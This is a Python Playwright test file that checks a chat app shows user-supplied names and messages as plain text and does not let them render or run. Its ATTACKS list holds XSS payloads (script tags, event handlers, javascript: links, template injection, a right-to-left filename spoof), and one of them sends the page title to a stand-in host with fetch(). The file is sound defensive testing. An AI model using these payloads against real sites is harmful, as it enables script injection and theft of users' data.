"""Text is text: what people write, and what they are called, never becomes markup or runs."""

import pytest
from playwright.sync_api import expect

from tests.browser.people import People
from tests.browser.town import Town

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.timeout(300)]

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=fetch('//evil.example.com/'+document.title)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "</span></button><a href=javascript:alert(1)>click</a>",
    "<link rel=stylesheet href=//evil.example.com/x.css>",
    "javascript:alert(1)",
    "${alert(1)}{{constructor.constructor('alert(1)')()}}",
    "&lt;b&gt; &amp; \u202egnp.exe",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_names_and_messages_are_shown_as_they_are(people: People, town: Town, attack: str) -> None:
    """In the list, the conversation, an editor and the dialog that asks; nobody else is spoken with.

    Dialogs, errors and what the page's policy keeps away would fail it, as they fail every test here.
    """
    (ben, his), (_, hers) = people.arrive("Ben", attack)
    hers.begin(ben.handle, attack)
    expect(his.list.locator(".name")).to_have_text(attack)
    expect(his.list.locator(".preview")).to_have_text(attack)
    his.list.get_by_role("button").click()
    expect(his.title).to_have_text(attack)
    expect(his.texts).to_have_text([attack])
    hers.log.get_by_role("button", name="Edit").click()
    expect(hers.editor).to_have_value(attack)
    hers.button("Save").click()
    hers.log.get_by_role("button", name="Delete").click()
    expect(hers.deletion.get_by_role("blockquote")).to_have_text(attack)
    ours = (town.app.url, town.settings.endpoint or "", "data:")
    assert not [url for window in (hers, his) for url in window.troubles.asked if not url.startswith(ours)]
